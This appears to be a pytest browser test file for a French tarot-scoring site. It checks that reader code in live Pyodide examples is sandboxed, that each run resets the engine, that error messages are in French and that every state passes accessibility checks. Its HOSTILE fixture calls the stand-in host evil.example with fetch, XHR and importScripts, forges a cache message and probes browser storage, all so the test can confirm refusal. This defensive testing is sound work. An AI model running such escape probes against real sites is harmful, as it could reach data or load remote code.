"""The reader's code in a live example runs in a box (issue 13, points 10–13), in a real Chromium:
no network outside the site's Pyodide files, no storage of the site, nothing the page does chosen by
that code; each run starts from the engine as built; the errors a reader can cause are French and
shown without the Python class name; every state of an example passes axe in both schemes."""

from __future__ import annotations

from pathlib import Path

import pytest
from helpers import axe_violations, describe, error, example_with, open_editor, output, run

from scripts.browser import BrowserSession
from tarot_rules.errors import TarotError
from tarot_rules.fft import score

pytestmark = pytest.mark.browser

HOSTILE = """\
import js
from pyodide.ffi import to_js


def tried(what, action):
    try:
        action()
    except Exception:
        return f"{{what}} : refusé"
    return f"{{what}} : permis"


def get(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()


_ = js.fetch("http://evil.example/fetch").catch(lambda error: setattr(js, "fetchRefused", str(error)))
fake = {{"type": "snapshot", "cache": "tarot-engine-snapshots", "key": "http://evil.example/"}}
fake["bytes"] = js.Uint8Array.new(8)
js.postMessage(to_js(fake, dict_converter=js.Object.fromEntries))
print(tried("autre hôte", lambda: get("http://evil.example/xhr")))
print(tried("page du site", lambda: get("{page}")))
print(tried("script d'ailleurs", lambda: js.importScripts("http://evil.example/x.js")))
print(tried("Cache Storage", lambda: js.caches.open("tarot-live-snapshots")))
print(tried("IndexedDB", lambda: js.indexedDB.open("tarot")))
print(tried("localStorage", lambda: js.localStorage.setItem("tarot", "x")))
print(tried("service worker", lambda: js.navigator.serviceWorker.register("{page}sw.js")))
print(tried("port de la page", lambda: js.tarotBoxStart.then))
"""
REFUSED = [
    f"{what} : refusé"
    for what in (
        "autre hôte",
        "page du site",
        "script d'ailleurs",
        "Cache Storage",
        "IndexedDB",
        "localStorage",
        "service worker",
        "port de la page",
    )
]
PATCH = "import tarot_rules.fft\ntarot_rules.fft.score = lambda **facts: 'truqué'\ntarot_rules.fft.score()"
IMPORT = "from tarot_rules.fft import score\n"
CACHES = """async (site) => {
  const { snapshotKey } = await import(`${site}assets/engine/snapshots.js`);
  const { default: manifest } = await import(`${site}assets/live/manifest.js`);
  const stored = {};
  for (const name of await caches.keys()) {
    stored[name] = (await (await caches.open(name)).keys()).map((request) => request.url);
  }
  return { stored, expected: snapshotKey(manifest.runner) };
}"""


def scoring_page(session: BrowserSession, site_dir: Path) -> None:
    if not (site_dir / "tarot" / "score" / "index.html").exists():
        pytest.skip("la page tarot/score n'existe pas encore")
    session.goto("/tarot/score/")


@pytest.mark.fresh_profile
def test_the_readers_code_reaches_neither_the_network_nor_the_sites_storage(
    session: BrowserSession, site_dir: Path
) -> None:
    scoring_page(session, site_dir)
    example = example_with(session, "score(")
    run(example, HOSTILE.format(page=session.base_url))
    assert output(example).strip().split("\n") == REFUSED, output(example)
    # The fetch was refused by the box's policy before leaving: no request to the other host.
    run(example, "import js\nprint(js.fetchRefused)")
    assert output(example).strip() == "TypeError: Failed to fetch"
    assert not [url for url in session.requests if "evil.example" in url]
    # Chromium reports the requests the policy stopped as failed ("csp"): expected here, and only those.
    stopped = [entry for entry in session.failed if entry.endswith(" csp")]
    assert set(stopped) <= {"http://evil.example/xhr csp", f"{session.base_url} csp"}, stopped
    session.failed[:] = [entry for entry in session.failed if entry not in stopped]
    # The page stored the snapshot of the cold start under its own name and key; the message the
    # reader's code forged changed nothing.
    session.page.wait_for_function("window.tarotLive.snapshotStored === true")
    caches = session.page.evaluate(CACHES, session.base_url)
    stored = caches["stored"]
    assert stored.pop("tarot-live-snapshots") == [caches["expected"]]
    # Besides it, only the site's own offline copy of what this page loaded (docs/sw.js): the forged
    # cache name and key are nowhere.
    assert set(stored) <= {"tarot-site-v1"}, stored
    kept = [url for urls in stored.values() for url in urls]
    assert all(url.startswith(session.base_url) for url in kept), kept
    assert "tarot-engine-snapshots" not in caches["stored"]
    # The box has an opaque origin: the site's storage is out of reach of its documents too.
    frame = session.page.locator("iframe.tarot-live__box")
    assert frame.get_attribute("sandbox") == "allow-scripts"


def expected_refusal(**facts: object) -> str:
    with pytest.raises(TarotError) as refusal:
        score(**facts)  # type: ignore[arg-type]
    return str(refusal.value)


def test_runs_start_from_the_engine_as_built_errors_are_french_and_every_state_passes_axe(
    session: BrowserSession, site_dir: Path
) -> None:
    session.page.emulate_media(color_scheme="light")
    scoring_page(session, site_dir)
    first = example_with(session, "score(")
    second = session.page.locator("div.tarot-example[data-code]").filter(has_text="score(").nth(1)
    built_first, built_second = output(first), output(second)
    states = {}

    open_editor(first)
    states["modifier, clair"] = axe_violations(session)
    run(first, PATCH)
    assert output(first).strip() == "'truqué'"
    states["exécuté, clair"] = axe_violations(session)
    run(second)
    assert output(second).strip() == built_second.strip(), "le moteur modifié par un autre exemple a servi"
    first.get_by_role("button", name="Réinitialiser").click()
    run(first)
    assert output(first).strip() == built_first.strip()

    facts = {"players": 4, "contract": "garde", "bouts": 2}
    nan = expected_refusal(**facts, points=float("nan"))
    run(first, f"{IMPORT}score(players=4, contract='garde', bouts=2, points=float('nan'))")
    assert error(first) == nan
    trace = first.locator(".tarot-live__error details")
    assert trace.locator("summary").inner_text() == "Trace complète (InvalidFactsError, ligne 2)"
    run(first, f"{IMPORT}score(players='4', contract='garde', bouts=2, points=49)")
    assert error(first) == expected_refusal(**{**facts, "players": "4"}, points=49)
    run(first, "int(float('nan'))")
    assert error(first) == "Impossible de convertir NaN (valeur non numérique) en nombre entier"
    assert "Error" not in error(first)
    trace.locator("summary").click()
    # A plain disclosure, not Material's blue « note » box with its pencil icon.
    icon = "node => getComputedStyle(node.querySelector('summary'), '::before').display"
    assert trace.evaluate(icon) == "none"
    assert trace.evaluate("node => getComputedStyle(node).borderTopStyle") == "none"
    states["erreur, clair"] = axe_violations(session)

    session.page.get_by_title("Passer en mode sombre").click()
    session.page.wait_for_function("document.body.dataset.mdColorScheme === 'slate'")
    states["erreur, sombre"] = axe_violations(session)
    run(first, "1 + 1")
    states["exécuté, sombre"] = axe_violations(session)
    assert output(first).strip() == "2"
    problems = {state: describe(found) for state, found in states.items() if found}
    assert not problems, problems
